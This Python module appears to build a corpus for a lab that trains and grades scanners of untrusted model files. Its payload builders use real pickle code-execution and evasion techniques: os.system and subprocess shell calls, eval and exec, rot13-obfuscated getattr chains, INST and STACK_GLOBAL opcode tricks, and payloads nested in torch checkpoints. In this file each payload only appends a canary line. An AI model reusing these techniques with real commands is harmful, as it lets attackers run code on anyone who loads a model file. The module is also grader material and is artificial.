"""Corpus of untrusted model files for the model-file-scanner lab: benign and malicious.

Used by the recipe (the public samples, fixed seed) and by the grader (a fresh corpus per
grading, from the secret grader seed). Every malicious file, if a victim loads it with the
loader its format invites (``pickle.load``, ``torch.load(weights_only=False)``,
``np.load(allow_pickle=True)``), runs a payload that only appends one line to one file:
``canary(file stem)`` gives the absolute path and the line. The grader passes
_shared.canary.CanaryPipe.target (a FIFO it reads, the line the file stem); the public samples
append "payload ran" to /tmp/mlrange-sample-canary-<stem>. An absolute path means the report
arrives whichever process or folder runs the payload. This module only ever *writes* pickles;
nothing here unpickles anything.
"""

import codecs
import io
import pickle
import random
import runpy
import subprocess
import time
import timeit
from collections import OrderedDict
from collections.abc import Callable
from dataclasses import dataclass

import numpy as np
import torch

# Layer names of the benign checkpoints: real vocabulary that also trips naive substring
# deny-lists ("retrieval" holds "eval", "executor" holds "exec", "ecosystem" holds "system").
LAYER_NAMES = (
    "encoder",
    "retrieval_head",
    "executor_mlp",
    "ecosystem_embed",
    "classifier",
    "subprocessor_gate",
    "decoder",
    "evaluator",
)


@dataclass(frozen=True)
class CorpusFile:
    """One file of the corpus: its name, bytes, truth and family (never shown to learners)."""

    name: str
    data: bytes
    malicious: bool
    family: str
    known: bool  # a family shown in the public samples


class Call:
    """Pickles as ``func(*args)``: the building block of every payload below."""

    def __init__(self, func, *args):
        self.func = func
        self.args = args

    def __call__(self, *args):  # pickle only saves callables as reduce functions
        raise RuntimeError("payload builder: never called")

    def __reduce__(self):
        return (self.func, self.args)


Target = tuple[str, str]  # (absolute path a payload appends to, the line it writes)


def _write_python(canary: Target) -> str:
    path, line = canary
    return f"open({path!r}, 'ab', 0).write({(line + chr(10)).encode()!r})"


def _shell(canary: Target) -> str:
    path, line = canary
    return f"echo '{line}' >> '{path}'"


# --- payload objects (each reports to the canary when unpickled) -------------------------


def _os_system(canary: Target) -> bytes:
    """Handwritten protocol 2: c os/system, the classic."""
    cmd = _shell(canary).encode()
    return b"\x80\x02cos\nsystem\nX" + len(cmd).to_bytes(4, "little") + cmd + b"\x85R."


def _eval(canary: Target, protocol: int) -> bytes:
    return pickle.dumps(Call(eval, _write_python(canary)), protocol=protocol)


def _subprocess(canary: Target, protocol: int) -> bytes:
    return pickle.dumps(Call(subprocess.check_output, ["/bin/sh", "-c", _shell(canary)]), protocol=protocol)


def _exec_protocol0(canary: Target) -> bytes:
    return pickle.dumps(Call(exec, _write_python(canary)), protocol=0)


def _getattr_chain(canary: Target, protocol: int, *, rot13: bool) -> object:
    name = Call(codecs.decode, "flfgrz", "rot13") if rot13 else "system"
    system = Call(getattr, Call(__import__, "os"), name)
    return Call(system, _shell(canary))


def _timeit(canary: Target, protocol: int) -> bytes:
    payload = Call(timeit.timeit, _write_python(canary), "pass", time.perf_counter, 1)
    return pickle.dumps(payload, protocol=protocol)


def _runpy_object(canary: Target) -> object:
    return Call(runpy._run_code, _write_python(canary), {})


def _inst_protocol0(canary: Target) -> bytes:
    """Protocol 0 INST opcode: instantiates os.system with the command, no GLOBAL at all."""
    return b"(S'" + _shell(canary).encode() + b"'\nios\nsystem\n."


def _stack_global_memo(canary: Target) -> bytes:
    """Protocol 4 with the module and name parked in the memo before STACK_GLOBAL."""
    src = _write_python(canary).encode()
    body = (
        b"\x8c\x08builtins\x94"  # SHORT_BINUNICODE 'builtins', MEMOIZE -> memo 0
        b"0"  # POP
        b"\x8c\x04exec\x94"  # SHORT_BINUNICODE 'exec', MEMOIZE -> memo 1
        b"0"  # POP
        b"h\x00h\x01\x93"  # BINGET 0, BINGET 1, STACK_GLOBAL
        + b"X"
        + len(src).to_bytes(4, "little")
        + src
        + b"\x85R."
    )
    return b"\x80\x04" + body


# --- containers ---------------------------------------------------------------------------


def _tensors(rng: random.Random, count: int) -> "OrderedDict[str, torch.Tensor]":
    generator = torch.Generator().manual_seed(rng.randrange(2**31))
    names = rng.sample(LAYER_NAMES, count)
    state: OrderedDict[str, torch.Tensor] = OrderedDict()
    for name in names:
        rows, cols = rng.randint(2, 12), rng.randint(2, 12)
        state[f"{name}.weight"] = torch.randn(rows, cols, generator=generator)
        state[f"{name}.bias"] = torch.zeros(rows)
    return state


def _torch_bytes(obj: object, *, legacy: bool = False) -> bytes:
    """torch.save output. Legacy files name storages by memory address: not reproducible,
    so the (deterministic) public samples hold no legacy file; the grader's corpus does."""
    buffer = io.BytesIO()
    torch.save(obj, buffer, _use_new_zipfile_serialization=not legacy)
    return buffer.getvalue()


def _numpy_arrays(rng: random.Random) -> dict:
    state = np.random.default_rng(rng.randrange(2**31))
    return {
        "embedding": state.standard_normal((rng.randint(3, 9), 4)).astype(np.float32),
        "vocab_size": rng.randint(100, 999),
        "labels": np.arange(rng.randint(2, 6), dtype=np.int64),
    }


def _npy_bytes(array: np.ndarray, *, allow_pickle: bool = False) -> bytes:
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=allow_pickle)
    return buffer.getvalue()


def _npy_object(payload: object) -> bytes:
    array = np.empty(2, dtype=object)
    array[0] = "label"
    array[1] = payload
    return _npy_bytes(array, allow_pickle=True)


# --- families -------------------------------------------------------------------------------
# Each builder: (rng, canary target) -> (bytes, extension).

RAW_EXT = (".pkl", ".pickle", ".bin")
TORCH_EXT = (".pt", ".pth", ".bin")


def _pick(rng: random.Random, options: tuple[str, ...]) -> str:
    return rng.choice(options)


def _checkpoint(rng: random.Random, extra: dict) -> dict:
    return {"model": _tensors(rng, 2), "epoch": rng.randint(1, 50), **extra}


MALICIOUS_KNOWN = {
    "os-system-pickle": lambda rng, c: (_os_system(c), _pick(rng, RAW_EXT)),
    "eval-pickle": lambda rng, c: (_eval(c, rng.choice((2, 4))), _pick(rng, RAW_EXT)),
    "torch-zip-os-system": lambda rng, c: (
        _torch_bytes(_checkpoint(rng, {"config": Call(__import__("os").system, _shell(c))})),
        _pick(rng, TORCH_EXT),
    ),
}

MALICIOUS_HELD_OUT = {
    "subprocess-pickle": lambda rng, c: (_subprocess(c, rng.choice((4, 5))), _pick(rng, RAW_EXT)),
    "exec-protocol-0": lambda rng, c: (_exec_protocol0(c), _pick(rng, RAW_EXT)),
    "getattr-chain": lambda rng, c: (
        pickle.dumps(_getattr_chain(c, 2, rot13=False), protocol=rng.choice((2, 3, 5))),
        _pick(rng, RAW_EXT),
    ),
    "getattr-rot13-torch-zip": lambda rng, c: (
        _torch_bytes(_checkpoint(rng, {"hook": _getattr_chain(c, 2, rot13=True)})),
        _pick(rng, TORCH_EXT),
    ),
    "timeit-pickle": lambda rng, c: (_timeit(c, rng.choice((1, 3))), _pick(rng, RAW_EXT)),
    "runpy-legacy-torch": lambda rng, c: (
        _torch_bytes(_checkpoint(rng, {"callback": _runpy_object(c)}), legacy=True),
        _pick(rng, TORCH_EXT),
    ),
    "nested-pickle-torch-zip": lambda rng, c: (
        _torch_bytes(_checkpoint(rng, {"extra": Call(pickle.loads, _os_system(c))})),
        _pick(rng, TORCH_EXT),
    ),
    "inst-opcode": lambda rng, c: (_inst_protocol0(c), _pick(rng, RAW_EXT)),
    "npy-object-array": lambda rng, c: (_npy_object(_runpy_object(c)), ".npy"),
    "stack-global-memo": lambda rng, c: (_stack_global_memo(c), _pick(rng, RAW_EXT)),
}

BENIGN = {
    "torch-zip-state-dict": lambda rng: (_torch_bytes(_tensors(rng, 3)), _pick(rng, TORCH_EXT)),
    "torch-zip-checkpoint": lambda rng: (
        _torch_bytes(_checkpoint(rng, {"lr": 0.001, "history": [0.9, 0.5, 0.31]})),
        _pick(rng, TORCH_EXT),
    ),
    "torch-legacy-state-dict": lambda rng: (_torch_bytes(_tensors(rng, 3), legacy=True), ".pt"),
    "numpy-pickle-protocol-2": lambda rng: (pickle.dumps(_numpy_arrays(rng), protocol=2), ".pkl"),
    "numpy-pickle-protocol-4": lambda rng: (pickle.dumps(_numpy_arrays(rng), protocol=4), ".pkl"),
    "numpy-pickle-protocol-5": lambda rng: (pickle.dumps(_numpy_arrays(rng), protocol=5), ".pkl"),
    "npy-numeric": lambda rng: (
        _npy_bytes(np.random.default_rng(rng.randrange(2**31)).standard_normal((5, 3))),
        ".npy",
    ),
    "python-containers-pickle": lambda rng: (
        pickle.dumps(
            {"name": "tokenizer", "merges": [["a", "b"], ["ab", "c"]], "dropout": 0.1},
            protocol=rng.choice((0, 2, 4)),
        ),
        ".pkl",
    ),
}

PUBLIC_BENIGN = (
    "torch-zip-state-dict",
    "numpy-pickle-protocol-2",
    "numpy-pickle-protocol-4",
    "numpy-pickle-protocol-5",
    "npy-numeric",
    "python-containers-pickle",
)
EXTRA_HELD_OUT = 3  # held-out families drawn a second time with other parameters


def _name(rng: random.Random, extension: str) -> str:
    return f"model-{rng.getrandbits(40):010x}{extension}"


def build_corpus(
    rng: random.Random, canary: Callable[[str], Target], *, public: bool = False
) -> list[CorpusFile]:
    """Benign and malicious files; a payload, if ever run, appends line to path, (path, line) = canary(stem).

    public=True: the learners' samples (known families and the public benign kinds only).
    """
    files: list[CorpusFile] = []

    def add(family: str, builder, *, malicious: bool, known: bool) -> None:
        name = _name(rng, ".tmp")
        target = canary(name.removesuffix(".tmp"))
        data, extension = builder(rng, target) if malicious else builder(rng)
        files.append(CorpusFile(name.replace(".tmp", extension), data, malicious, family, known))

    for family, builder in MALICIOUS_KNOWN.items():
        add(family, builder, malicious=True, known=True)
    if not public:
        held_out = list(MALICIOUS_HELD_OUT.items())
        for family, builder in held_out + rng.sample(held_out, EXTRA_HELD_OUT):
            add(family, builder, malicious=True, known=False)
    for family, builder in BENIGN.items():
        if public and family not in PUBLIC_BENIGN:
            continue
        add(family, builder, malicious=False, known=family in PUBLIC_BENIGN)
    rng.shuffle(files)
    return files


def stem(file: CorpusFile) -> str:
    """The identifier a file's payload reports (its name without the extension)."""
    return file.name.rsplit(".", 1)[0]
